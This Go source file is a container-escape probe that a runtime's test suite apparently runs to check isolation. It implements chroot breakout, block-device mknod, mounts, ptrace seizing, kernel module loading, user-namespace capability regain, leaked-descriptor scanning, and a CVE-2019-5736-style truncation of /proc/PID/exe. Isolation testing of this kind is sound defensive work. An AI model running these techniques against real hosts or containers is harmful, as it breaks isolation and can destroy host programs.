//go:build linux

// Escape tries to get out of a container. The tests of final start it inside
// of one, for what a shell has no word for; each way out is a function here.
//
//	escape NAME [ARG…]
//
// It prints what it won, and ends with 0; or it prints the name of the errno
// that stopped it, such as EPERM, and ends with 1. What could harm the machine
// is only brought to the point from which it could: nothing of it is written to.
package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"strconv"
	"syscall"

	"golang.org/x/sys/unix"
)

var escapes = map[string]func(args []string) error{
	"chroot":     chroot,
	"mknod":      mknod,
	"mount":      mount,
	"open":       open,
	"ptrace":     ptrace,
	"module":     module,
	"keyctl":     keyctl,
	"userns":     userns,
	"descriptor": descriptor,
	"exe":        exe,
	"watch":      watch,
}

func main() {
	if len(os.Args) < 2 || escapes[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "This is no container, but what tries to get out of one. Usage: escape NAME [ARG…]")
		os.Exit(125)
	}
	if err := escapes[os.Args[1]](os.Args[2:]); err != nil {
		var errno unix.Errno
		if !errors.As(err, &errno) {
			fmt.Println(err)
			os.Exit(2)
		}
		fmt.Println(unix.ErrnoName(errno))
		os.Exit(1)
	}
}

// chroot FILE: with a chroot below it, the working directory is outside of the
// root, where the kernel does not stop "..": walk up, and read FILE of the host.
func chroot(args []string) error {
	if err := unix.Mkdir("/tmp/below", 0o700); err != nil && err != unix.EEXIST {
		return err
	}
	if err := unix.Chroot("/tmp/below"); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	return show(unix.AT_FDCWD, args[0])
}

// mknod DEVICE DIR: make a node of the block device in DIR, and open it.
func mknod(args []string) error {
	device, err := strconv.ParseUint(args[0], 10, 64)
	if err != nil {
		return err
	}
	node := args[1] + "/disk"
	if err := unix.Mknod(node, unix.S_IFBLK|0o600, int(device)); err != nil {
		return fmt.Errorf("mknod: %w", err)
	}
	defer unix.Unlink(node)
	fd, err := unix.Open(node, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	unix.Close(fd)
	fmt.Println("open")
	return nil
}

// mount TYPE DATA FILE: mount a file system, and open FILE in it for writing.
func mount(args []string) error {
	const dir = "/tmp/mounted"
	if err := unix.Mkdir(dir, 0o700); err != nil && err != unix.EEXIST {
		return err
	}
	if err := unix.Mount("none", dir, args[0], 0, args[1]); err != nil {
		return err
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	return open([]string{dir + "/" + args[2]})
}

// open FILE: open it for writing, and write nothing.
func open(args []string) error {
	fd, err := unix.Open(args[0], unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	unix.Close(fd)
	fmt.Println("open")
	return nil
}

// ptrace PID: become the tracer of a process, without stopping it. With our end
// it is let go.
func ptrace(args []string) error {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if err := unix.PtraceSeize(pid); err != nil {
		return err
	}
	fmt.Println("traced")
	return nil
}

// module HOW: load a module into the kernel. What is given is none, so a kernel
// that would load one says so: ENOEXEC or the like, and not EPERM.
func module(args []string) error {
	if args[0] == "init_module" {
		return unix.InitModule([]byte("not a module"), "")
	}
	program, err := os.Open("/proc/self/exe")
	if err != nil {
		return err
	}
	defer program.Close()
	return unix.FinitModule(int(program.Fd()), "", 0)
}

// keyctl asks for the session keyring: keys have no namespace.
func keyctl([]string) error {
	if _, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false); err != nil {
		return err
	}
	fmt.Println("keyring")
	return nil
}

// userns HOW: in a new user namespace a process has every capability again.
func userns(args []string) error {
	if args[0] == "unshare" {
		// Whoever has threads, as we do, is answered EINVAL, if at all allowed.
		return unix.Unshare(unix.CLONE_NEWUSER)
	}
	again := exec.Command("/bin/grep", "CapEff", "/proc/self/status")
	root := []syscall.SysProcIDMap{{Size: 1}} // 0 is 0
	again.SysProcAttr = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER, UidMappings: root, GidMappings: root}
	again.Stdout = os.Stdout
	return again.Run()
}

// descriptor FILE: look for an open folder of the host that holds FILE.
func descriptor(args []string) error {
	for fd := 3; fd < 1024; fd++ {
		if show(fd, args[0]) == nil {
			return nil
		}
	}
	return unix.EBADF
}

// exe PID: overwrite the program of a process; PID 0 is our parent.
func exe(args []string) error {
	if args[0] == "0" {
		args[0] = strconv.Itoa(os.Getppid())
	}
	return overwrite("/proc/" + args[0] + "/exe")
}

// overwrite empties a program, as whoever then writes another one would. It
// takes one that may be emptied: a copy.
func overwrite(path string) error {
	fd, err := unix.Open(path, unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	unix.Close(fd)
	fmt.Println("overwritten")
	return nil
}

// watch: wait until another program than this one runs in the container, hold
// on to its file, and overwrite that, as in CVE-2019-5736.
func watch([]string) error {
	fmt.Println("watching")
	own := identity("/proc/self/exe")
	for {
		entries, err := os.ReadDir("/proc")
		if err != nil {
			return err
		}
		for _, entry := range entries {
			path := "/proc/" + entry.Name() + "/exe"
			if entry.Name()[0] > '9' || identity(path) == own {
				continue
			}
			held, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue // it has ended, or may not be looked into
			}
			return overwrite(fmt.Sprintf("/proc/self/fd/%d", held))
		}
	}
}

// identity names a file, wherever it is mounted.
func identity(path string) string {
	var st unix.Stat_t
	if unix.Stat(path, &st) != nil {
		return ""
	}
	return fmt.Sprint(st.Dev, st.Ino)
}

// show prints the file at path, seen from the folder dir.
func show(dir int, path string) error {
	fd, err := unix.Openat(dir, path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	file := os.NewFile(uintptr(fd), path)
	defer file.Close()
	_, err = io.Copy(os.Stdout, file)
	return err
}
